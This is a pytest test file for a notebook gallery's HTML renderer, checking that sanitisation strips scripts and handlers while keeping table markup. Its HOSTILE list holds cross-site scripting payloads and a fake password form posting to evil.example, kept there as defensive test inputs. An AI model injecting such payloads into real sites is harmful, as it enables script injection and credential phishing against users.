"""HTML outputs keep their tables and text; script, styles and handlers are removed."""

import pytest

from nbgallery.rendering.render import render_notebook
from nbgallery.rendering.tests.inert import assert_inert, elements
from nbgallery.rendering.tests.notebooks import code_notebook, display, result

HOSTILE = [
    "<script>alert(1)</script><b>after</b>",
    '<div onclick="alert(1)" onmouseover="alert(2)">hover</div>',
    '<img src="x" onerror="alert(1)"><b>img</b>',
    '<a href="javascript:alert(1)">click</a>',
    "<svg><script>alert(1)</script><text>t</text></svg><b>svg</b>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><b>frame</b>',
    '<style>* { background: url("javascript:alert(1)") }</style><b>styled</b>',
    '<form action="https://evil.example"><input type="password"></form><b>form</b>',
    '<object data="x"></object><embed src="y"><b>plugin</b>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_outputs_render_inert(html):
    rendered = render_notebook(
        code_notebook(display({"text/html": html}), result({"text/html": [html, "<i>x</i>"]})),
        trusted=True,
        language="python",
    )
    assert_inert(rendered)
    assert "alert" not in rendered


def test_a_pandas_table_keeps_its_structure_without_its_style_tag():
    frame = (
        "<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;">'
        "<th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>1</td></tr></tbody>"
        "</table></div>"
    )
    rendered = render_notebook(
        code_notebook(result({"text/html": frame, "text/plain": "   a\n0  1"})),
        trusted=True,
        language="python",
    )
    tags = dict(elements(rendered))
    assert dict(tags["table"]) == {"border": "1", "class": "dataframe"}
    assert "vertical-align" not in rendered
    assert "<td>1</td>" in rendered


def test_html_that_was_only_script_falls_back_to_the_next_type():
    rendered = render_notebook(
        code_notebook(display({"text/html": "<script>draw()</script>", "text/plain": "Figure"})),
        trusted=True,
        language="python",
    )
    assert "Figure" in rendered and "draw" not in rendered
